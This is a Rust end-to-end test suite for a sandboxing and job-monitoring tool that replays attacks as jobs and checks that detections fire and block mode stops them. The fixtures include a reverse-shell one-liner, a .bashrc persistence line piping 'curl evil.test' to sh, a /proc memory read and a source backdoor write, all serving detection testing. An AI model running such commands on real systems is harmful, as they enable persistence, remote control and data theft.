//! End-to-end tests of job monitoring: attacks replayed as real jobs must raise their detection
//! (and be stopped in block mode), benign builds must stay clean once a baseline is learned, and
//! the HTML report must load in headless Chromium. Run as root (the proc connector needs it).

#[macro_use]
mod support;

use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_stockade");
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/fixtures/monitor");
const BLOCKED: i32 = 120;

/// A fresh directory for one test, removed when dropped.
struct Dir(PathBuf);

impl Dir {
    fn new(name: &str) -> Dir {
        let d = std::env::temp_dir().join(format!("stockade-monitor-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        Dir(d)
    }
    fn path(&self, p: &str) -> PathBuf {
        self.0.join(p)
    }
}

impl Drop for Dir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
    report: Value,
}

impl Run {
    fn ids(&self) -> Vec<String> {
        self.report["detections"]
            .as_array()
            .map(|a| a.iter().map(|d| d["id"].as_str().unwrap_or("").to_string()).collect())
            .unwrap_or_default()
    }
    fn has(&self, id: &str) -> bool {
        self.ids().iter().any(|i| i == id)
    }
    fn blocked(&self) -> Option<(String, bool)> {
        let b = &self.report["monitor"]["blocked"];
        b["id"]
            .as_str()
            .map(|id| (id.to_string(), b["stopped"].as_bool().unwrap_or(false)))
    }
}

fn stockade(args: &[&str]) -> Output {
    Command::new(BIN).args(args).output().expect("stockade runs")
}

/// `stockade run --report R <flags> -- <cmd>`.
fn run(dir: &Dir, name: &str, flags: &[&str], cmd: &[&str]) -> Run {
    let report = dir.path(&format!("{name}.json"));
    let mut args = vec!["run", "--report", report.to_str().unwrap()];
    args.extend_from_slice(flags);
    args.push("--");
    args.extend_from_slice(cmd);
    let out = stockade(&args);
    let text = std::fs::read_to_string(&report).unwrap_or_else(|e| {
        panic!(
            "no report for {name}: {e}; stderr: {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        report: serde_json::from_str(&text).expect("report is JSON"),
    }
}

fn sh(script: &str) -> Vec<&str> {
    vec!["sh", "-c", script]
}

/// Audit mode records the attack; block mode stops it before its next step and exits 120.
fn attack(name: &str, flags: &[&str], script: &str, id: &str) {
    let dir = Dir::new(name);
    let audit = run(&dir, "audit", flags, &sh(script));
    assert!(
        audit.has(id),
        "{name}: audit mode must raise {id}; got {:?}\n{}",
        audit.ids(),
        audit.stderr
    );
    let mut bflags = flags.to_vec();
    bflags.extend_from_slice(&["--mode", "block"]);
    let block = run(
        &dir,
        "block",
        &bflags,
        &sh(&format!("{script}; sleep 5; echo survived")),
    );
    assert_eq!(block.code, BLOCKED, "{name}: block mode exits 120\n{}", block.stderr);
    assert!(!block.stdout.contains("survived"), "{name}: the job must be stopped");
    assert_eq!(
        block.blocked(),
        Some((id.to_string(), true)),
        "{name}: {}",
        block.stderr
    );
    assert!(
        block.stderr.contains(&format!("stockade: blocked: {id}")),
        "{}",
        block.stderr
    );
    assert_eq!(block.report["outcome"]["exit_code"], BLOCKED);
}

#[test]
fn reading_another_processes_memory_is_detected_and_blocked() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    attack(
        "mem",
        &[],
        "sleep 30 & p=$!; sleep 0.2; head -c 1 /proc/$p/mem >/dev/null 2>&1; true",
        "memory-read-attempt",
    );
}

#[test]
fn a_shell_rc_write_outside_the_workspace_is_a_persistence_attempt() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    attack(
        "rc",
        &[],
        "echo 'curl evil.test | sh' >> $HOME/.bashrc",
        "persistence-attempt",
    );
}

#[test]
fn a_mount_attempt_is_a_privilege_escalation_attempt() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    attack(
        "mount",
        &[],
        "python3 -c \"import ctypes; ctypes.CDLL(None).mount(b'none', b'/mnt', b'tmpfs', 0, None)\"",
        "priv-escalation-attempt",
    );
}

#[test]
fn a_reverse_shell_toward_a_listener_is_detected_and_blocked() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    // The listener runs inside the job's own network namespace, on its loopback.
    let script = r#"python3 -c "
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('127.0.0.1', 4444)); s.listen(1); open('/tmp/listening', 'w').close()
c, _ = s.accept(); c.sendall(b'exit\n'); c.recv(100)
" & while [ ! -e /tmp/listening ]; do sleep 0.05; done; bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' 2>/dev/null"#;
    attack("revshell", &[], script, "reverse-shell");
}

#[test]
fn a_modified_tracked_source_file_is_source_tampering() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    let dir = Dir::new("source");
    let ws = dir.path("ws");
    std::fs::create_dir_all(ws.join("src")).unwrap();
    std::fs::write(ws.join("src/main.c"), "int main(void) { return 0; }\n").unwrap();
    std::fs::write(ws.join("notes.txt"), "untracked\n").unwrap();
    let git = |args: &[&str]| {
        let ok = Command::new("git")
            .args([
                "-c",
                "user.name=t",
                "-c",
                "user.email=t@t.test",
                "-c",
                "init.defaultBranch=main",
            ])
            .args(args)
            .current_dir(&ws)
            .status()
            .unwrap()
            .success();
        assert!(ok, "git {args:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "src"]);
    git(&["commit", "-qm", "init"]);
    let wsf = ws.to_str().unwrap();
    // Writing an untracked file is the job's business.
    let clean = run(
        &dir,
        "clean",
        &["--workspace", wsf, "--protect-source"],
        &sh("echo more >> notes.txt; cat src/main.c >/dev/null"),
    );
    assert!(!clean.has("source-tampered"), "{:?}", clean.ids());
    assert_eq!(clean.report["files"]["protected_files"], 1);
    attack(
        "source-write",
        &["--workspace", wsf, "--protect-source"],
        "echo '/* backdoor */' >> src/main.c",
        "source-tampered",
    );
    // The end-of-job check sees it too (here: a deletion, which writes nothing).
    let del = run(
        &dir,
        "delete",
        &["--workspace", wsf, "--protect-source=src/*.c"],
        &sh("rm src/main.c"),
    );
    assert!(del.has("source-tampered"), "{:?}", del.ids());
    assert_eq!(del.report["files"]["protected_changed"][0]["change"], "deleted");
}

#[test]
fn a_process_left_behind_is_a_persistence_attempt_and_fails_the_job_in_block_mode() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    let dir = Dir::new("left");
    let script = "setsid nohup sleep 1000 >/dev/null 2>&1 & sleep 0.3";
    let audit = run(&dir, "audit", &[], &sh(script));
    assert!(audit.has("persistence-attempt"), "{:?}", audit.ids());
    assert_eq!(audit.code, 0);
    let block = run(&dir, "block", &["--mode", "block"], &sh(script));
    assert_eq!(block.code, BLOCKED, "{}", block.stderr);
    // Found when the main process ended: the job is failed, not stopped.
    assert_eq!(block.blocked(), Some(("persistence-attempt".into(), false)));
}

#[test]
fn a_miner_like_cpu_burn_against_a_baseline_is_a_cpu_anomaly() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    let dir = Dir::new("miner");
    for i in 0..2 {
        let r = run(&dir, &format!("learn{i}"), &[], &sh("sleep 2; echo built"));
        assert_eq!(r.code, 0);
    }
    let learn = stockade(&[
        "baseline",
        "learn",
        dir.path("learn0.json").to_str().unwrap(),
        dir.path("learn1.json").to_str().unwrap(),
        "-o",
        dir.path("baseline.json").to_str().unwrap(),
    ]);
    assert!(learn.status.success(), "{}", String::from_utf8_lossy(&learn.stderr));
    let b = dir.path("baseline.json");
    let burn = "while :; do :; done & while :; do :; done";
    let r = run(
        &dir,
        "burn",
        &[
            "--baseline",
            b.to_str().unwrap(),
            "--mode",
            "block",
            "--timeout",
            "120s",
        ],
        &sh(burn),
    );
    assert_eq!(r.code, BLOCKED, "{}", r.stderr);
    assert_eq!(
        r.blocked(),
        Some(("cpu-anomaly".into(), true)),
        "{:?} {}",
        r.ids(),
        r.report["monitor"]
    );
}

#[test]
fn egress_and_dns_detections_from_a_report() {
    // The egress proxy fills the report's `egress` field; detections are read from it.
    let fixture = format!("{FIXTURES}/egress-attacks.json");
    let baseline = format!("{FIXTURES}/egress-baseline.json");
    let out = stockade(&["report", &fixture, "--json", "--baseline", &baseline]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
    let found: Vec<(String, String, String)> = d
        .as_array()
        .unwrap()
        .iter()
        .map(|x| {
            (
                x["id"].as_str().unwrap().into(),
                x["severity"].as_str().unwrap().into(),
                x["subject"].as_str().unwrap().into(),
            )
        })
        .collect();
    let want = [
        ("dns-denied", "high", "evil.test"),
        ("dns-denied", "medium", "telemetry.example.test"),
        ("egress-denied", "medium", "exfil.evil.test"),
        ("egress-new-destination", "medium", "static.crates.io"),
        ("failed-auth", "medium", "registry.internal.test"),
    ];
    for w in want {
        assert!(
            found.iter().any(|f| (f.0.as_str(), f.1.as_str(), f.2.as_str()) == w),
            "missing {w:?} in {found:?}"
        );
    }
    // Without a baseline there is nothing to be new against.
    let out = stockade(&["report", &fixture, "--json", "--fail-on", "high"]);
    assert_eq!(out.status.code(), Some(1));
    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        !d.as_array()
            .unwrap()
            .iter()
            .any(|x| x["id"] == "egress-new-destination")
    );
}

#[test]
fn every_exec_is_recorded_with_argv_masked_cwd_uid_times_and_status() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    let dir = Dir::new("tree");
    std::fs::write(dir.path("token"), "s3cr3t-t0ken\n").unwrap();
    let secret = format!("TOKEN=@{}", dir.path("token").display());
    let script = "/bin/echo \"$TOKEN\" >/dev/null; for i in $(seq 50); do /bin/true; done; sh -c 'exit 3'; true";
    let r = run(&dir, "tree", &["--secret", &secret], &sh(script));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let text = std::fs::read_to_string(dir.path("tree.json")).unwrap();
    assert!(
        !text.contains("s3cr3t-t0ken"),
        "the secret must be masked in the report"
    );
    let procs = r.report["processes"].as_array().unwrap();
    let execs: Vec<&Value> = procs
        .iter()
        .filter(|p| p["flags"].as_array().is_some_and(|f| f.contains(&"exec".into())))
        .collect();
    let trues = execs
        .iter()
        .filter(|p| p["argv"] == serde_json::json!(["/bin/true"]))
        .count();
    assert_eq!(trues, 50, "every one of the 50 short processes is recorded");
    let echo = execs
        .iter()
        .find(|p| p["argv"][0] == "/bin/echo")
        .expect("echo recorded");
    assert_eq!(echo["argv"][1], "***");
    let exit3 = execs
        .iter()
        .find(|p| p["argv"] == serde_json::json!(["sh", "-c", "exit 3"]))
        .expect("sh recorded");
    assert_eq!(exit3["exit"], 3);
    let main = &execs[0];
    for p in &execs {
        assert_eq!(p["uid"], 1000);
        assert_eq!(p["cwd"], main["cwd"]);
        assert!(p["end_ms"].as_u64().unwrap() >= p["start_ms"].as_u64().unwrap());
        // Read only for processes a detection names (see docs/report-schema.md).
        assert!(p["ns_pid"].is_null() || p["ns_pid"].as_u64().is_some_and(|n| n > 1));
    }
    // The tree links each process to its parent's record.
    let pids: Vec<u64> = procs.iter().map(|p| p["pid"].as_u64().unwrap()).collect();
    assert!(
        procs
            .iter()
            .skip(1)
            .all(|p| pids.contains(&p["ppid"].as_u64().unwrap()))
    );
    assert_eq!(r.report["monitor"]["events_lost"], 0);
    // The summary shows the tree.
    let out = stockade(&["report", dir.path("tree.json").to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("Process tree (") && text.contains("sh -c exit 3  (exit 3"),
        "{text}"
    );
}

/// A small crate, a C project and a Python test suite: learned from two runs, the third run
/// raises nothing at or above medium in block mode.
#[test]
fn benign_builds_are_clean_once_a_baseline_is_learned() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    let dir = Dir::new("benign");
    let sysroot = String::from_utf8(
        Command::new("rustc")
            .args(["--print", "sysroot"])
            .output()
            .unwrap()
            .stdout,
    )
    .unwrap();
    // The host's toolchain lives under /root, which the sandbox hides: hard-link a copy.
    let rust = dir.path("rust");
    let ok = Command::new("cp")
        .arg("-al")
        .arg(sysroot.trim())
        .arg(&rust)
        .status()
        .unwrap()
        .success();
    assert!(ok, "cp -al {}", sysroot.trim());
    let bind = rust.display().to_string();
    let path = format!("PATH={bind}/bin:/usr/bin:/bin");
    let projects: Vec<(&str, Vec<&str>, Vec<&str>)> = vec![
        (
            "cargo",
            vec!["--bind", &bind, "--env", &path, "--env", "CARGO_HOME=/tmp/cargo-home"],
            vec!["cargo", "build", "--offline", "--quiet"],
        ),
        ("make", vec![], vec!["make", "-s"]),
        ("python", vec![], vec!["python3", "-m", "unittest", "-q"]),
    ];
    for (name, flags, cmd) in projects {
        let mut reports = Vec::new();
        for i in 0..3 {
            let ws = dir.path(&format!("{name}{i}"));
            make_project(name, &ws);
            let wsf = ws.to_str().unwrap().to_string();
            let mut f: Vec<&str> = flags.clone();
            f.extend_from_slice(&["--workspace", &wsf, "--protect-source"]);
            let base = dir.path(&format!("{name}-baseline.json"));
            let bs = base.to_str().unwrap().to_string();
            if i == 2 {
                f.extend_from_slice(&["--baseline", &bs, "--mode", "block", "--block-at", "medium"]);
            }
            let r = run(&dir, &format!("{name}{i}"), &f, &cmd);
            assert_eq!(r.code, 0, "{name} run {i}: {}\n{}", r.stdout, r.stderr);
            reports.push(dir.path(&format!("{name}{i}.json")));
            if i == 1 {
                let learn = stockade(&[
                    "baseline",
                    "learn",
                    reports[0].to_str().unwrap(),
                    reports[1].to_str().unwrap(),
                    "-o",
                    &bs,
                ]);
                assert!(learn.status.success(), "{}", String::from_utf8_lossy(&learn.stderr));
            }
            if i == 2 {
                let serious: Vec<&Value> = r.report["detections"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .filter(|d| matches!(d["severity"].as_str(), Some("medium" | "high" | "critical")))
                    .collect();
                assert!(serious.is_empty(), "{name}: {serious:?}");
                assert!(r.report["monitor"]["blocked"].is_null());
                assert!(!r.report["processes"].as_array().unwrap().is_empty());
            }
        }
    }
}

fn make_project(kind: &str, ws: &Path) {
    let _ = std::fs::remove_dir_all(ws);
    std::fs::create_dir_all(ws.join("src")).unwrap();
    match kind {
        "cargo" => {
            std::fs::write(
                ws.join("Cargo.toml"),
                "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
            )
            .unwrap();
            std::fs::write(
                ws.join("src/main.rs"),
                "fn main() { println!(\"{}\", tiny()); }\nfn tiny() -> u32 { 42 }\n",
            )
            .unwrap();
        }
        "make" => {
            std::fs::write(
                ws.join("Makefile"),
                "hello: src/hello.o src/greet.o\n\tcc -o $@ $^\n%.o: %.c\n\tcc -O2 -c -o $@ $<\n",
            )
            .unwrap();
            std::fs::write(
                ws.join("src/hello.c"),
                "int greet(void);\nint main(void) { return greet(); }\n",
            )
            .unwrap();
            std::fs::write(ws.join("src/greet.c"), "int greet(void) { return 0; }\n").unwrap();
        }
        _ => {
            std::fs::write(ws.join("calc.py"), "def add(a, b):\n    return a + b\n").unwrap();
            std::fs::write(
                ws.join("test_calc.py"),
                "import unittest\nimport calc\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(calc.add(2, 3), 5)\n",
            )
            .unwrap();
        }
    }
    let ok = Command::new("git")
        .args(["-c", "init.defaultBranch=main", "init", "-q"])
        .current_dir(ws)
        .status()
        .unwrap()
        .success()
        && Command::new("git")
            .args(["add", "."])
            .current_dir(ws)
            .status()
            .unwrap()
            .success();
    assert!(ok);
}

#[test]
fn the_html_report_loads_in_chromium_without_errors_and_shows_the_detections() {
    let dir = Dir::new("html");
    let fixture = format!("{FIXTURES}/egress-attacks.json");
    let html = dir.path("report.html");
    let out = stockade(&["report", &fixture, "--html", html.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let url = format!("file://{}", html.display());
    let profile = dir.path("profile");
    let chromium = |extra: &[&str]| {
        Command::new("chromium")
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--no-first-run",
                "--enable-logging=stderr",
                "--v=0",
            ])
            .arg(format!("--user-data-dir={}", profile.display()))
            .args(extra)
            .arg(&url)
            .output()
            .expect("chromium runs (scripts/setup.sh installs it)")
    };
    let dom = chromium(&["--dump-dom"]);
    let page = String::from_utf8_lossy(&dom.stdout);
    let log = String::from_utf8_lossy(&dom.stderr);
    for id in ["dns-denied", "egress-denied", "failed-auth"] {
        assert!(page.contains(&format!("data-id=\"{id}\"")), "{id} not in the DOM");
    }
    // The page's own script ran to its end: it counted the detections into the body.
    assert!(
        page.contains("data-ready=\"4\""),
        "script did not run: {}",
        &page[..page.len().min(400)]
    );
    let console_errors: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("CONSOLE") && (l.contains("Uncaught") || l.contains("Error") || l.contains("Refused")))
        .collect();
    assert!(console_errors.is_empty(), "console errors: {console_errors:?}");
    // Keep a screenshot for people: target/tmp/monitor-report.png.
    let shot = Path::new(env!("CARGO_TARGET_TMPDIR")).join("monitor-report.png");
    let _ = std::fs::remove_file(&shot);
    let s = chromium(&[
        &format!("--screenshot={}", shot.display()),
        "--window-size=1280,1600",
        "--hide-scrollbars",
    ]);
    assert!(
        shot.metadata().map(|m| m.len() > 10_000).unwrap_or(false),
        "no screenshot: {}",
        String::from_utf8_lossy(&s.stderr)
    );
}

#[test]
fn bad_reports_and_baselines_are_one_line_errors() {
    let dir = Dir::new("bad");
    let junk = dir.path("junk.json");
    std::fs::write(&junk, "{\"version\": 1}").unwrap();
    for args in [
        vec!["report", junk.to_str().unwrap()],
        vec!["baseline", "learn", junk.to_str().unwrap()],
        vec!["report", "/nonexistent/report.json"],
    ] {
        let out = stockade(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(err.trim().lines().count(), 1, "{err}");
        assert!(
            err.starts_with("stockade: error: ") && err.contains(args.last().unwrap()),
            "{err}"
        );
    }
    // A report of an unmonitored job teaches no baseline.
    let fixture: Value =
        serde_json::from_str(&std::fs::read_to_string(format!("{FIXTURES}/egress-attacks.json")).unwrap()).unwrap();
    let mut unmonitored = fixture.clone();
    unmonitored.as_object_mut().unwrap().remove("monitor");
    let p = dir.path("unmonitored.json");
    std::fs::write(&p, unmonitored.to_string()).unwrap();
    let out = stockade(&["baseline", "learn", p.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no process tree"));
    let bad_base = dir.path("base.json");
    std::fs::write(&bad_base, "{\"version\": 7}").unwrap();
    let out = stockade(&[
        "report",
        &format!("{FIXTURES}/egress-attacks.json"),
        "--baseline",
        bad_base.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("base.json"));
}

#[test]
fn run_rejects_monitor_flags_that_cannot_work() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    for args in [
        vec!["run", "--protect-source", "--", "true"],
        vec!["run", "--mode", "off", "--baseline", "/nonexistent", "--", "true"],
        vec!["run", "--mode", "sometimes", "--", "true"],
        vec!["run", "--block-at", "urgent", "--", "true"],
    ] {
        let out = stockade(&args);
        assert_eq!(out.status.code(), Some(125), "{args:?}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(err.trim().lines().count(), 1, "{args:?}: {err}");
    }
    // A job that exits 120 itself cannot pass for a block.
    let out = stockade(&["run", "--mode", "block", "--", "sh", "-c", "exit 120"]);
    assert_eq!(out.status.code(), Some(1));
    let out = stockade(&["run", "--", "sh", "-c", "exit 120"]);
    assert_eq!(out.status.code(), Some(120));
}

/// The egress flags of a job that may reach `allowed.test` only (pinned to this host's loopback).
fn allowlist(port: Option<u16>) -> Vec<String> {
    let allow = match port {
        Some(p) => format!("allowed.test:{p}"),
        None => "allowed.test".into(),
    };
    [
        "--egress",
        "allowlist",
        "--allow-domain",
        &allow,
        "--resolve",
        "allowed.test=127.0.0.1",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect()
}

#[test]
fn a_refused_connection_stops_the_job_in_block_mode_while_it_runs() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    let dir = Dir::new("egress-live");
    let mut flags = allowlist(None);
    flags.extend(["--mode", "block", "--block-at", "medium"].map(String::from));
    let flags: Vec<&str> = flags.iter().map(|s| s.as_str()).collect();
    // curl goes through the proxy (http_proxy): the proxy refuses the name, and egress hands the
    // event to the monitor at once; the job must not reach its echo.
    let r = run(
        &dir,
        "block",
        &flags,
        &sh("curl -s -o /dev/null http://denied.test/; sleep 30; echo survived"),
    );
    assert_eq!(r.code, BLOCKED, "{}", r.stderr);
    assert!(!r.stdout.contains("survived"), "the job must be stopped");
    assert_eq!(r.blocked(), Some(("egress-denied".into(), true)), "{}", r.stderr);
    assert!(
        r.stderr
            .contains("stockade: blocked: egress-denied (medium): the job tried to reach denied.test"),
        "{}",
        r.stderr
    );
    let d = r.report["detections"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["id"] == "egress-denied")
        .unwrap()
        .clone();
    assert_eq!(d["subject"], "denied.test");
    assert!(d["at_ms"].is_u64(), "a live detection carries its time: {d}");
    // Audit mode records the same and lets the job finish.
    let mut flags = allowlist(None);
    flags.extend(["--block-at", "medium"].map(String::from));
    let flags: Vec<&str> = flags.iter().map(|s| s.as_str()).collect();
    let a = run(
        &dir,
        "audit",
        &flags,
        &sh("curl -s -o /dev/null http://denied.test/; echo finished"),
    );
    assert_eq!(a.code, 0, "{}", a.stderr);
    assert!(a.stdout.contains("finished"));
    assert!(a.has("egress-denied"), "{:?}", a.ids());
    assert!(a.blocked().is_none());
}

#[test]
fn repeated_401_answers_relayed_by_the_proxy_are_failed_auth_and_stop_the_job() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    use std::io::{BufRead, BufReader, Write};
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut line = String::new();
            while r.read_line(&mut line).is_ok_and(|n| n > 0) && line != "\r\n" {
                line.clear();
            }
            let mut w = s;
            let _ = w.write_all(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    let dir = Dir::new("failed-auth");
    let mut flags = allowlist(Some(port));
    flags.extend(["--mode", "block", "--block-at", "medium"].map(String::from));
    let flags: Vec<&str> = flags.iter().map(|s| s.as_str()).collect();
    let url = format!("http://allowed.test:{port}/private");
    let r = run(
        &dir,
        "block",
        &flags,
        &sh(&format!(
            "for i in 1 2 3 4 5; do curl -s -o /dev/null {url}; done; sleep 30; echo survived"
        )),
    );
    assert_eq!(r.code, BLOCKED, "{}", r.stderr);
    assert!(!r.stdout.contains("survived"), "the job must be stopped");
    assert_eq!(r.blocked(), Some(("failed-auth".into(), true)), "{}", r.stderr);
    assert!(
        r.stderr
            .contains("stockade: blocked: failed-auth (medium): allowed.test answered 401/403/407"),
        "{}",
        r.stderr
    );
    let statuses: Vec<u64> = r.report["egress"]["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["http_status"].as_u64())
        .collect();
    assert!(
        statuses.len() >= 3 && statuses.iter().all(|s| *s == 401),
        "{statuses:?}"
    );
}

#[test]
fn the_policys_monitor_section_applies_and_the_command_line_overrides_it() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    let dir = Dir::new("policy");
    let policy = dir.path("policy.toml");
    std::fs::write(
        &policy,
        "[monitor]\nmode = \"block\"\nblock_at = \"critical\"\nexpected_duration = \"1h\"\n",
    )
    .unwrap();
    let p = policy.to_str().unwrap();
    // A denied mount is high: under the policy's critical threshold the job goes on.
    let mount =
        "python3 -c \"import ctypes; ctypes.CDLL(None).mount(b'none', b'/mnt', b'tmpfs', 0, None)\"; echo finished";
    let by_policy = run(&dir, "policy", &["--policy", p], &sh(mount));
    assert_eq!(by_policy.code, 0, "{}", by_policy.stderr);
    assert!(by_policy.has("priv-escalation-attempt"), "{:?}", by_policy.ids());
    assert_eq!(by_policy.report["monitor"]["mode"], "block");
    assert_eq!(by_policy.report["monitor"]["threshold"], "critical");
    // --block-at overrides the policy's threshold.
    let lower = run(
        &dir,
        "block-at",
        &["--policy", p, "--block-at", "high"],
        &sh(&format!("{mount}; sleep 30; echo survived")),
    );
    assert_eq!(lower.code, BLOCKED, "{}", lower.stderr);
    assert!(!lower.stdout.contains("survived"));
    assert_eq!(lower.blocked(), Some(("priv-escalation-attempt".into(), true)));
    // --mode overrides the policy's mode.
    let audit = run(
        &dir,
        "audit",
        &["--policy", p, "--mode", "audit", "--block-at", "high"],
        &sh(mount),
    );
    assert_eq!(audit.code, 0, "{}", audit.stderr);
    assert_eq!(audit.report["monitor"]["mode"], "audit");
    assert!(audit.has("priv-escalation-attempt"));
    // A bad [monitor] key is a one-line error naming file, line and key, before any job runs.
    let bad = dir.path("bad.toml");
    std::fs::write(&bad, "[monitor]\nmode = \"watch\"\n").unwrap();
    let out = stockade(&["run", "--policy", bad.to_str().unwrap(), "--", "true"]);
    assert_eq!(out.status.code(), Some(125));
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(err.trim().lines().count(), 1, "{err}");
    assert!(
        err.contains(&format!("{}:2: monitor.mode: unknown variant `watch`", bad.display())),
        "{err}"
    );
}

#[test]
fn what_the_job_changed_in_its_writable_root_is_listed_but_not_the_sandboxs_mount_points() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    // Files every Debian root has (base-files), changed and deleted only in the job's overlay.
    let (issue, motd) = (Path::new("/etc/issue"), Path::new("/etc/motd"));
    assert!(
        issue.exists() && motd.exists(),
        "this test needs /etc/issue and /etc/motd"
    );
    let motd_before = std::fs::read(motd).unwrap();
    let dir = Dir::new("wroot");
    let file = dir.path("file");
    std::fs::write(&file, "bound\n").unwrap();
    // Its mount point is new in the root: the sandbox creates it in the overlay before the job.
    let bind = format!("{}:/stockade-monitor-bound", file.display());
    let r = run(
        &dir,
        "wroot",
        &["--writable-root", "--bind", &bind],
        &sh(
            "cat /stockade-monitor-bound; echo x > /etc/stockade-probe; echo more >> /etc/motd; rm /etc/issue; \
             mkdir -p /opt/stockade-probe/sub && echo y > /opt/stockade-probe/sub/f; echo y > /tmp/left-behind",
        ),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert_eq!(r.stdout, "bound\n");
    let files = &r.report["files"];
    assert!(
        files["examined"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e == "/ (writable root)"),
        "{files}"
    );
    let changes: Vec<(&str, &str, &str)> = files["outside_workspace"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["path"].as_str().unwrap(),
                c["change"].as_str().unwrap(),
                c["kind"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        changes,
        [
            ("/tmp/left-behind", "created", "file"),
            ("/etc/issue", "deleted", "file"),
            ("/etc/motd", "modified", "file"),
            ("/etc/stockade-probe", "created", "file"),
            ("/opt/stockade-probe/sub/f", "created", "file"),
        ],
        "{files}"
    );
    assert!(r.has("file-outside-workspace"), "{:?}", r.ids());
    // Nothing of it reached the host.
    assert!(!Path::new("/etc/stockade-probe").exists() && !Path::new("/opt/stockade-probe").exists());
    assert!(issue.exists());
    assert_eq!(std::fs::read(motd).unwrap(), motd_before);
}

#[test]
fn each_exec_has_the_directory_it_ran_in_even_right_after_a_change() {
    need_root!("the monitor needs root (proc connector, fanotify)");
    let dir = Dir::new("cwd");
    // Directory changes in quick succession, in the shell itself, in a subshell and in a child
    // shell: each short-lived `true` ran where the script had just gone.
    let r = run(
        &dir,
        "cwd",
        &[],
        &sh(
            "cd /usr; /bin/true; cd lib; /bin/true; (cd /etc && /bin/true); sh -c 'cd /tmp; /bin/true; cd /dev; /bin/true'; /bin/true",
        ),
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let cwds: Vec<&str> = r.report["processes"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["argv"][0] == "/bin/true")
        .map(|p| p["cwd"].as_str().unwrap_or("?"))
        .collect();
    assert_eq!(
        cwds,
        ["/usr", "/usr/lib", "/etc", "/tmp", "/dev", "/usr/lib"],
        "{}",
        r.report["processes"]
    );
}
